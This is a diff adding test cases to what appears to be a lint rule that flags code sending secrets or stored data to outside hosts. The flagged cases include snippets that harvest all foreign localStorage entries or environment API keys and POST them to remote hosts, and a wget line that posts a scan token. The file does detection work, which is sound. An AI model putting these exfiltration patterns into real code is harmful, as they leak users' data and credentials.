@@ -10,6 +10,10 @@ const given = (run: string, env: Readonly<Record<string, string>> = { T: 'secret
 
 await ruleTester(rule, {
   valid: [
+    // entries of one's own kind, members of what was kept as text
+    { code: 'class Store { PREFIX = "acme_"; load() { const all = {}; const keys = Object.keys(localStorage); for (const key of keys) { if (key.startsWith(this.PREFIX)) all[key] = localStorage.getItem(key); } fetch("https://api.acme-tools.dev/x", { method: "POST", body: JSON.stringify(all) }); } }', filename: 'src/a.js' },
+    { code: 'export const run = async (requests, accessToken) => { const form = { access_token: accessToken, batch: JSON.stringify(requests) }; await got.post("https://graph.facebook.com", { form }); };', filename: 'src/a.js' },
+    { code: 'tool_url="https://scan.coverity.com/download/$(uname)"\nwget -O tool.tgz "$tool_url" --post-data "project=acme&token=${COVERITY_SCAN_TOKEN:?}"\n', filename: 'run.sh' },
     // one of several names of the same key
     { code: 'const token = process.env.GH_TOKEN || process.env.GITHUB_TOKEN || process.env.ACME_TOKEN; fetch("https://api.github.com/repos/acme/tools", { headers: { Authorization: token ? `Bearer ${token}` : undefined } });', filename: 'src/a.js' },
     { code: 'const key = process.env.ANTHROPIC_API_KEY ?? process.env.CLAUDE_API_KEY ?? process.env.LLM_TOKEN; fetch("https://llm.acme-tools.dev/v1", { method: "POST", body: JSON.stringify({ key }) });', filename: 'src/a.js' },
@@ -210,6 +214,9 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    { code: 'class Store { PREFIX = "acme_"; load() { const all = {}; const keys = Object.keys(localStorage); for (const key of keys) { if (key.startsWith(this.PREFIX)) continue; all[key] = localStorage.getItem(key); } fetch("https://api.acme-tools.dev/x", { method: "POST", body: JSON.stringify(all) }); } }', filename: 'src/a.js', errors: [{ messageId: 'sent' }] },
+    { code: 'const all = {}; const keys = Object.keys(localStorage); const own = keys.filter((key) => key.startsWith("acme_")); for (const key of keys) all[key] = localStorage.getItem(key); fetch("https://api.acme-tools.dev/x", { method: "POST", body: JSON.stringify({ all, own }) });', filename: 'src/a.js', errors: [{ messageId: 'sent' }] },
+    { code: 'tool_url="https://scan.example-service.com/download/$(uname)"\nwget -O tool.tgz "$tool_url" --post-data "project=acme&token=${COVERITY_SCAN_TOKEN:?}"\n', filename: 'run.sh', errors: [{ messageId: 'sent' }] },
     { code: 'fetch("https://api.example-service.com/v1", { method: "POST", body: JSON.stringify({ a: process.env.ANTHROPIC_API_KEY || "", b: process.env.STRIPE_KEY || "" }) });', filename: 'src/a.js', errors: [{ messageId: 'several' }] },
     { code: 'fetch("https://api.example-service.com/v1", { method: "POST", body: [process.env.ANTHROPIC_API_KEY || process.env.CLAUDE_KEY, process.env.STRIPE_KEY].join() });', filename: 'src/a.js', errors: [{ messageId: 'several' }] },
     { code: 'fetch("https://api.example-service.com/v1", { headers: { a: process.env.ANTHROPIC_API_KEY || process.env.CLAUDE_KEY, b: process.env.STRIPE_KEY, c: process.env.GITHUB_TOKEN } });', filename: 'src/a.js', errors: [{ messageId: 'several' }, { messageId: 'several' }, { messageId: 'several' }] },
